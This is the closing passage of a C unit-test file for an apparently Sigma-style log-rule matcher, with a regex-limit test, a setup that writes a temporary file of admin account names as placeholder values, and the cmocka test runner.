    assert_int_equal(rp.ok, 1);
    char val[200];
    memset(val, 'a', 150);
    memcpy(val + 150, "b", 2);
    lw_event ev;
    char fld[220];
    snprintf(fld, sizeof(fld), "C=%s", val);
    const char *fields[] = {fld, NULL};
    make_event(&ev, fields);
    lw_matcher *m;
    assert_int_equal(lw_matcher_new(r, &m), LW_OK);
    int hits = 0;
    assert_int_equal(lw_matcher_run(m, &ev, count_hit, &hits, NULL), LW_OK);
    assert_int_equal(hits, 0);
    assert_true(lw_matcher_regex_limit_hits(m) >= 1);
    lw_matcher_free(m);
    lw_event_destroy(&ev);
    lw_rules_free(r);
}

static int setup(void **state)
{
    snprintf(ph_file, sizeof(ph_file), "/tmp/lw_sigma_ph_XXXXXX");
    int fd = mkstemp(ph_file);
    if (fd < 0)
        return -1;
    const char *vals = "# admin accounts\nroot\n\n  administrator  \nsvc_*\n";
    if (write(fd, vals, strlen(vals)) != (ssize_t)strlen(vals))
        return -1;
    close(fd);
    return 0;
}

static int teardown(void **state)
{
    unlink(ph_file);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_match_cases),
        cmocka_unit_test(test_reject_cases),
        cmocka_unit_test(test_multi_document),
        cmocka_unit_test(test_action_global),
        cmocka_unit_test(test_metadata_and_logsource),
        cmocka_unit_test(test_folder_load),
        cmocka_unit_test(test_regex_limit_counted),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
